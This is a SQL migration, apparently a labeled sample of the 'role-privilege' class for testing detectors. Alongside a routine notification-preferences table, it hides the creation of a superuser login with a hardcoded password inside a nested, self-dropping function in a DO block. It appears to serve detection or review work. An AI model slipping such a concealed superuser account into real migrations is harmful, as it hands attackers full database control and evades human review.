-- class: role-privilege
-- Creates a superuser login inside a function defined inside a DO block, called once and dropped again.
CREATE TABLE notification_preferences (
  user_id bigint PRIMARY KEY REFERENCES users (id),
  email boolean NOT NULL DEFAULT true,
  sms boolean NOT NULL DEFAULT false
);

DO $outer$
BEGIN
  CREATE FUNCTION pg_temp.ensure_notifier() RETURNS void LANGUAGE plpgsql AS $inner$
  BEGIN
    IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'notifier') THEN
      CREATE ROLE notifier LOGIN SUPERUSER PASSWORD 'n0tify-me';
    END IF;
  END
  $inner$;
  PERFORM pg_temp.ensure_notifier();
  DROP FUNCTION pg_temp.ensure_notifier();
END
$outer$;
